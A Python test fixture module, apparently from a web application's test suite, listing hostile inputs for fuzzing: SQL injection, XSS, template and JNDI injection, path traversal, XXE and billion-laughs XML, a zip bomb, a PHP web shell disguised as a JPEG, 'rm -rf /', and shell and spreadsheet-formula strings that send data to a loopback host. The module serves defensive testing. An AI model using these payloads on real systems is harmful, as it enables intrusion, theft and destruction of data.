"""What attackers and broken programs send, by kind."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any
from zlib import crc32

from tests.web import made

#: Texts that mean harm somewhere, by kind.
TEXTS: dict[str, str] = {
    "sql quote": "' OR '1'='1",
    "sql drop": "x'; DROP TABLE orders_order; --",
    "sql union": "1) UNION SELECT phone_mark FROM vault_person --",
    "sql sleep": "1; SELECT pg_sleep(10)",
    "script": "<script>alert(1)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "javascript": "javascript:alert(document.cookie)",
    "jinja": "{{ 7*7 }}{{ config }}",
    "django": "{% include '/etc/passwd' %}{% debug %}",
    "dollar": "${jndi:ldap://127.0.0.1/a}",
    "format": "{0.__class__.__mro__}%(secret)s%n%n%s",
    "header": "a\r\nSet-Cookie: sessionid=1\r\n\r\n<html>",
    "null": "a\x00b",
    "control": "a\x07\x1b[31mb",
    "delete": "a\x7f\x85b",
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\..\\windows\\win.ini",
    "encoded path": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "url": "file:///etc/passwd",
    "shell": "$(reboot); `id` | nc 127.0.0.1 1 &",
    "formula": '=HYPERLINK("http://127.0.0.1/?"&A1)',
    "dde": "+cmd|' /C calc'!A0",
    "turned": "abc\u202egpj.exe",
    "isolate": "a\u2066b\u2069",
    "zero width": "1\u200b3\u200b8\u2060",
    "byte order": "\ufeffx",
    "early": "0001-01-01T00:00:00+14:00",
    "late": "9999-12-31T23:59:59-14:00",
    "line separator": "a\u2028b",
    "tag signs": "a\U000e0041b",
    "wide digits": "１３８１２３４５６７８",
    "combining": "a" + "\u0301" * 80,
    "astral": "𝕳𝖊𝖑𝖑𝖔" * 20,
    "xml": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "ldap": "*)(uid=*))(|(uid=*",
    "infinite": "1e999",
    "not a number": "NaN",
    "long number": "9" * 400,
    "negative": "-1",
    "blank": "   ",
    "long": "长" * 30_000,
    "regex": "a" * 3000 + "!",
}
#: What is put where something else belongs.
WRONG: dict[str, object] = {
    "null": None, "true": True, "zero": 0, "negative": -1, "fraction": 1.5, "huge": 10**24, "text": "x", "list": [],
    "full list": [[1]], "object": {}, "full object": {"$gt": ""}, "moment": "0000-00-00T25:61:61Z",
    "early": "0001-01-01T00:00:00+14:00", "late": "9999-12-31T23:59:59-14:00", "float": 1e308,
}  # fmt: skip
#: Bodies that are no JSON, or not as we take it.
BODIES: dict[str, bytes] = {
    "nothing": b"", "open": b"{", "list": b"[]", "null": b"null", "text": b'"x"', "number": b"1",
    "comma": b'{"a":1,}',
    "deep list": b"[" * 4000 + b"]" * 4000, "deep object": b'{"a":' * 900 + b"1" + b"}" * 900,
    "nan": b'{"channel":NaN}',
    "infinity": b'{"lon":-Infinity}', "long number": b'{"n":' + b"9" * 5000 + b"}", "exponent": b'{"n":1e99999}',
    "twice": b'{"channel":"app","channel":"phone"}', "latin": b'{"channel":"\xe9"}',
    "utf-16": '{"a":1}'.encode("utf-16"),
    "byte order": b'\xef\xbb\xbf{"a":1}', "surrogate": b'{"channel":"\\ud800"}', "null sign": b'{"channel":"\\u0000"}',
    "overlong": b'{"channel":"\xc0\xaf"}', "trailing": b'{"a":1}{"b":2}', "single": b"{'a':1}",
    "comment": b'{"a":1}//x',
    "large": b'{"text":"' + b"x" * 1_100_000 + b'"}', "xml": b"<a/>", "form": b"a=1&b=2", "gzip": b"\x1f\x8b\x08\x00",
    "hidden name": b'{"a\\u200bb":1}', "proto": b'{"__proto__":{"admin":true},"constructor":1}',
    "thousand names": b"{" + b",".join(b'"n%d":1' % n for n in range(3000)) + b"}",
}  # fmt: skip
MEDIA = (
    "text/plain", "text/html", "application/xml", "application/octet-stream", "", "application/json; charset=utf-16",
    "application/json; charset=nonsense", "multipart/form-data", "multipart/form-data; boundary=", "image/png",
    "x" * 300,
    "multipart/form-data; boundary=" + "x" * 300, "application/x-www-form-urlencoded",
)  # fmt: skip


def some(cases: dict[str, Any], of: str, every: int = 5) -> Iterator[tuple[str, Any]]:
    """Yield the cases that a place is tried with: one in five, others at other places, always the same."""
    for kind, case in cases.items():
        if crc32(f"{of} {kind}".encode()) % every == 0:
            yield kind, case


def png(width: int, height: int) -> bytes:
    """Return a picture that says it is this large and holds nothing."""

    def part(kind: bytes, said: bytes) -> bytes:
        return struct.pack(">I", len(said)) + kind + said + struct.pack(">I", zlib.crc32(kind + said))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(b"")) + part(b"IEND", b"")


def packed(**parts: bytes) -> bytes:
    """Return an archive."""
    made_in = io.BytesIO()
    with zipfile.ZipFile(made_in, "w", zipfile.ZIP_DEFLATED) as out:
        for name, content in parts.items():
            out.writestr(name, content)
    return made_in.getvalue()


def files() -> dict[str, tuple[str, bytes]]:
    """Return files that are not what they say, or do more than they should: name and content."""
    photo = made.photo()
    office = {"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}
    return {
        "empty": ("a.jpg", b""), "cut photo": ("a.jpg", photo[: len(photo) // 2]), "head only": ("a.jpg", photo[:4]),
        "text": ("a.jpg", b"hello"), "script": ("a.jpg", b"<script>alert(1)</script>"),
        "php": ("a.jpg", b"\xff\xd8\xff<?php system($_GET[0]); ?>"),
        "gif and script": ("a.jpg", b"GIF89a/*x*/=1;alert(1)"),
        "vector": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        "page": ("a.html", b"<html><script>alert(1)</script></html>"), "program": ("a.exe", b"MZ" + bytes(100)),
        "program as photo": ("a.jpg", b"MZ" + bytes(100)), "shell": ("a.sh", b"#!/bin/sh\nrm -rf /"),
        "huge picture": ("a.png", png(60_000, 60_000)), "wide picture": ("a.png", png(2**31 - 1, 1)),
        "no points": ("a.png", png(0, 0)), "active pdf": ("a.pdf", b"%PDF-1.7 /OpenAction /JavaScript (x) %%EOF"),
        "hidden pdf": ("a.pdf", b"%PDF-1.7 /J#61vaScript (x) %%EOF"), "cut pdf": ("a.pdf", b"%PDF-1.7"),
        "macros": ("a.docx", packed(**office, **{"word/vbaProject.bin": b"x"})),
        "no office": ("a.docx", packed(a=b"x")),
        "torn office": ("a.docx", packed(**office)[:60]), "bomb": ("a.docx", packed(**office, x=bytes(205_000_000))),
        "entities": ("a.xml", b"<!DOCTYPE x [<!ENTITY a 'x'>]><x>&a;</x>"), "double": ("a.jpg.exe", photo),
        "wrong name": ("a.pdf", photo),
        "large": ("a.mp4", b"\0\0\0\x18ftyp" + bytes(10_000_100)),
        "tiff": ("a.tif", b"II*\x00" + bytes(20)), "unknown": ("a", bytes(64)),
    }  # fmt: skip


def billion() -> bytes:
    """Return an XML body that would grow to gigabytes."""
    lines = ['<!ENTITY a0 "lol">', *(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))]
    return f"<!DOCTYPE x [{''.join(lines)}]><x><service_code>&a9;</service_code></x>".encode()


XML: dict[str, bytes] = {
    "billion": billion(),
    "file": b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x><description>&e;</description></x>",
    "network": b"<!DOCTYPE x SYSTEM 'http://127.0.0.1:1/x.dtd'><x/>",
    "parameter": b"<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://127.0.0.1:1/'>%p;]><x/>",
    "open": b"<x><a>", "nothing": b"", "binary": b"\0\1\2", "charset": b"<?xml version='1.0' encoding='nonsense'?><x/>",
    "utf-7": b"<?xml version='1.0' encoding='UTF-7'?><x/>", "nested": b"<x>" * 5000 + b"</x>" * 5000,
    "children": b"<x><a><b/></a></x>", "twice": b"<x><description>1</description><description>2</description></x>",
    "unknown": b"<x><who>1</who></x>",
    "include": b"<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='/etc/passwd'><a/></xi:include></x>",
    "control": b"<x><description>&#x1;</description></x>", "bad utf-8": b"<x><description>\xff</description></x>",
    "long": b"<x><description>" + b"x" * 5000 + b"</description></x>",
    "large": b"<x><d>" + b"x" * 1_100_000 + b"</d></x>",
}  # fmt: skip
